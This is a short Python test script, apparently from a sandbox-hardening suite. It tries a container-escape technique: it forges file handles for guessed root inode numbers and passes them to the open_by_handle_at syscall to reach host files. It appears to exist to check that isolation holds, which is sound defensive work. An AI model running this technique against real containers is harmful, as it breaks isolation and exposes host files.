# attack: open files of the host by their numbers instead of their paths
# success: a handle is opened or made
import ctypes
import os
from support.raw import call, got, reached, say

handle = ctypes.create_string_buffer(b"\x80\0\0\0" + b"\0" * 200, 256)
mount = ctypes.c_int()
result, errno = call(303, -100, b"/usr/share", handle, ctypes.byref(mount), 0)
if result == 0:
    got("name_to_handle_at")
else:
    say(f"name_to_handle_at: {os.strerror(errno)}")
root = os.open("/usr/share", os.O_RDONLY)
# The number of the root folder is 2 on ext4 and 128 on XFS.
for inode in (2, 128):
    guess = ctypes.create_string_buffer((8).to_bytes(4, "little") + (1).to_bytes(4, "little") + inode.to_bytes(8, "little"))
    reached(f"open_by_handle_at {inode}", 304, root, guess, 0)
